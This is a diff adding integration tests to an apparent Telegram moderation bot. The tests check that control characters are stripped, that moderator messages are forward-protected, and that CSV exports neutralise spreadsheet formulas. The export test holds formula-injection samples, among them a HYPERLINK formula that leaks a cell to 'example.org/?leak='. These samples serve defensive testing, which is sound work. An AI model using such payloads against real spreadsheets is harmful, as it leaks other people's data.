@@ -28,6 +28,7 @@ from tests.helpers.database import rows
 from tests.helpers.people import JSON, Supporter, buttons, new_supporter
 from tests.helpers.processes import bot_environment, start_bot_process
 
+PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + (32).to_bytes(4, "big") * 2
 MINA, JONAS, KIM = 30_001, 30_002, 30_003  # creator, administrator, plain member
 ROOT = Path(__file__).resolve().parent.parent
 
@@ -367,6 +368,85 @@ async def test_a_killed_bot_delivers_its_outbox_after_a_restart(
         await stop_application(application)
 
 
+async def test_hidden_and_control_characters_reach_neither_the_group_nor_the_channel(
+    desk_bot: BotApplication, driver: Driver
+) -> None:
+    alice = await new_supporter(driver, "Alice", "en")
+    await send_text_message(alice, "Woman\u202e, life\u2066\u200b, free\u0007dom\u001b[2J")
+    card = await card_for(driver, "#M1")
+    assert "Woman, life, freedom[2J\n\n— A supporter" in card["text"]
+    await press(driver, MINA, card, "Approve")
+    posts = await driver.wait_for(
+        lambda: _messages_with(driver, CHANNEL_ID, "Woman"), what="the channel post"
+    )
+    assert posts[0]["text"] == "Woman, life, freedom[2J\n\n— A supporter"
+
+
+async def send_photo_message(person: Supporter, caption: str) -> None:
+    """The whole /message flow with a photo, anonymously, without a country."""
+    await person.say("/message", replies=2)
+    sent = await person.driver.send_media(person.id, "photo", PNG, caption=caption)
+    await person.driver.wait_bot_messages(person.id, sent["message_id"])
+    await person.press_and_wait(data=MessageStep(MessageChoice.ANONYMOUS).pack())
+    before = await person.last_message_id()
+    await person.press(data=MessageStep(MessageChoice.SKIP).pack())
+    await person.driver.wait_bot_messages(person.id, before, 2)
+    await person.press_and_wait(data=MessageStep(MessageChoice.SEND).pack())
+
+
+async def test_only_what_reaches_the_moderator_group_is_protected_from_forwarding(
+    desk_bot: BotApplication, driver: Driver, emulator: Emulator
+) -> None:
+    alice = await new_supporter(driver, "Alice", "en")
+    await send_text_message(alice, "Hello")
+    await send_photo_message(alice, "Azadi")
+    data = desk_bot.bot_data
+    signer = emulator.add_user("Signer")
+    draft = SignatureDraft(Listing.NAME, "Signer One", "FR")
+    await data.services.signing.submit(data.keys.of(signer.id), signer.id, draft, "fr")
+    text_card = await card_for(driver, "#M1")
+    await card_for(driver, "#M2")  # a photo with its caption
+    await card_for(driver, "Digest #D1")
+    commands = [
+        (JONAS, "/pending", 1),
+        (MINA, "/stats", 2),  # the figures and the chart
+        (MINA, "/export", 1),
+        (MINA, "/export messages", 1),
+        (MINA, "/ban", 1),
+        (MINA, "/help", 1),
+        (KIM, "/export", 1),  # refused: not an administrator
+    ]
+    for who, command, replies in commands:
+        sent = await driver.send(who, command, chat_id=MODERATOR_GROUP_ID)
+        await driver.wait_bot_messages(MODERATOR_GROUP_ID, sent["message_id"], replies)
+
+    async def resent() -> list[JSON] | None:
+        shown = [text_of(m) for m in await driver.bot_messages(MODERATOR_GROUP_ID)]
+        again = [t for t in shown if t.startswith(("#M1 ", "#M2 ", "Digest #D1"))]
+        return again if len(again) == 6 else None
+
+    await driver.wait_for(resent, what="the cards sent again")
+    await press(driver, MINA, text_card, "Approve")
+    await driver.wait_for(
+        lambda: _messages_with(driver, CHANNEL_ID, "Hello"), what="the channel post"
+    )
+    await driver.wait_for(
+        lambda: _messages_with(driver, alice.id, "approved your message"), what="the notice"
+    )
+    group = await driver.bot_messages(MODERATOR_GROUP_ID)
+    # The three cards, /pending's answer and the cards again, the other commands' 7 answers.
+    assert len(group) == 3 + 1 + 3 + 7
+    unprotected = [text_of(m)[:30] for m in group if m.get("has_protected_content") is not True]
+    assert unprotected == []
+    for chat in (CHANNEL_ID, alice.id):
+        sent = await driver.bot_messages(chat)
+        assert sent and not [m for m in sent if "has_protected_content" in m]
+
+
+def text_of(message: JSON) -> str:
+    return str(message.get("text") or message.get("caption") or "")
+
+
 # ------------------------------------------------------------------ commands
 
 
@@ -405,6 +485,43 @@ async def test_export_holds_one_row_per_approved_signature_and_no_ids(
     member = await driver.send(KIM, "/export", chat_id=MODERATOR_GROUP_ID)
     [no] = await driver.wait_bot_messages(MODERATOR_GROUP_ID, member["message_id"])
     assert no["text"] == "Only the group's administrators can do this."
+
+
+async def test_export_cells_are_never_run_as_formulas(
+    desk_bot: BotApplication, driver: Driver, emulator: Emulator
+) -> None:
+    data = desk_bot.bot_data
+    names = [
+        '=HYPERLINK("https://example.org/?leak="&A2,"Click")',
+        "+SUM(1;2) Bob",
+        "-1+2 Carol",
+        "@SUM(1) Dan",
+        "\uff1dcmd Eve",  # a full-width equals sign
+        "Maryam Namazie",
+    ]
+    for number, name in enumerate(names):
+        person = emulator.add_user(f"S{number}")
+        draft = SignatureDraft(Listing.NAME, name, None)
+        await data.services.signing.submit(data.keys.of(person.id), person.id, draft, "en")
+    from bot.domain.decisions import Moderator
+
+    for signature_id in range(1, len(names) + 1):
+        await data.services.moderation.decide_signature(
+            signature_id, True, Moderator(MINA, "@mina_mod")
+        )
+    sent = await driver.send(MINA, "/export", chat_id=MODERATOR_GROUP_ID)
+    [document] = await driver.wait_bot_messages(MODERATOR_GROUP_ID, sent["message_id"])
+    content = emulator.files.get(document["document"]["file_id"])
+    assert content is not None
+    table = list(csv.reader(io.StringIO(content.data.decode("utf-8"))))
+    assert [row[0] for row in table[1:]] == [
+        '\'=HYPERLINK("https://example.org/?leak="&A2,"Click")',
+        "'+SUM(1;2) Bob",
+        "'-1+2 Carol",
+        "'@SUM(1) Dan",
+        "'\uff1dcmd Eve",
+        "Maryam Namazie",
+    ]
 
 
 async def test_stats_sends_totals_and_a_png_chart(
